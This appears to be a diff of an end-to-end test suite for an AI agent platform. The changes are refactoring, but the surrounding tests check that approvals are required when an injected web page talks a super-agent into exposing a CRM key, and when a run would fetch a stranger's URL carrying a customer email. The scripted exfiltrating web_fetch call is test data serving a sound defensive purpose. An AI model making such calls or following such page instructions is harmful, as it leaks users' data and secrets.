@@ -1,18 +1,15 @@
 import type { ApiClient } from "../support/api-client";
-import { RunStream } from "../support/run-stream";
-import { type Approval, agentShape, approvalShape, fileShape, pageShape, runShape, workspaceShape } from "../support/shapes";
-import { startRun } from "../support/start-run";
+import type { Approval } from "../support/api-document";
+import { toolResultOf } from "../support/model-script";
+import { RunStream } from "../support/run-log";
+import { startRun, waitForRun } from "../support/runs";
 import { expect, test } from "../support/test";
-import { toolResultOf } from "../support/tool-result-of";
 import { until } from "../support/until";
-import { waitForRun } from "../support/wait-for-run";
-
-const approvals = pageShape(approvalShape);
 
 /** The one approval that waits for a decision, other than those named. */
 function pending(api: ApiClient, ...others: string[]): Promise<Approval> {
   return until("an approval to be asked for", async () => {
-    const { data } = (await api.get("/v1/approvals", { query: { status: "pending", limit: 100 } })).as(approvals);
+    const { data } = (await api.get("/v1/approvals", { query: { status: "pending", limit: 100 } })).as("ApprovalPage");
     return data.find(({ approval_id }) => !others.includes(approval_id));
   });
 }
@@ -130,7 +127,7 @@ test("a super-agent that a page has talked round cannot have an agent send a sec
   const asked = await pending(api);
   expect(asked).toMatchObject({ kind: "agent_edit", agent_id: agent.agent_id, tool_name: "edit_agent", reason: expect.any(String) });
   for (const words of ["full_auto", lookup.url, "CRM_KEY"]) expect(asked.changes.join(" ")).toContain(words);
-  const current = async () => (await api.get(`/v1/agents/${agent.agent_id}`)).as(agentShape);
+  const current = async () => (await api.get(`/v1/agents/${agent.agent_id}`)).as("Agent");
   expect(await current()).toEqual(agent);
   expect((await resolve(api, asked, "approve")).status).toBe(200);
   const call = await pending(api, asked.approval_id);
@@ -179,9 +176,9 @@ test("a run with files at hand asks before it fetches from a host that nobody na
   inbox,
 }) => {
   const { api } = await newAccount();
-  const { workspace_id } = (await api.post("/v1/workspaces", { name: "Customers" })).as(workspaceShape);
+  const { workspace_id } = (await api.post("/v1/workspaces", { name: "Customers" })).as("Workspace");
   const upload = { raw: "kim@example.com", query: { path: "customers.csv" }, headers: { "content-type": "text/csv" } };
-  (await api.post(`/v1/workspaces/${workspace_id}/files`, undefined, upload)).as(fileShape);
+  (await api.post(`/v1/workspaces/${workspace_id}/files`, undefined, upload)).as("WorkspaceFile");
   const address = `${inbox.url}?d=kim%40example.com`;
   const fetching = () => script({ tool_calls: [{ name: "web_fetch", args: { url: address } }] }, { text: "Done." });
   const start = async (input: object, more: object = {}) => startRun(api, { input, workspace_id, ...more });
@@ -225,6 +222,6 @@ test("a run with files at hand asks before it fetches from a host that nobody na
   const follow = await fetching();
   const first = await start({ text: (await script({ text: "Noted." })).mark });
   await waitForRun(api, first.run_id);
-  const later = (await api.post("/v1/runs", { input: { text: follow.mark }, conversation_id: first.conversation_id })).as(runShape);
+  const later = (await api.post("/v1/runs", { input: { text: follow.mark }, conversation_id: first.conversation_id })).as("Run");
   expect(await pending(api)).toMatchObject({ run_id: later.run_id });
 });
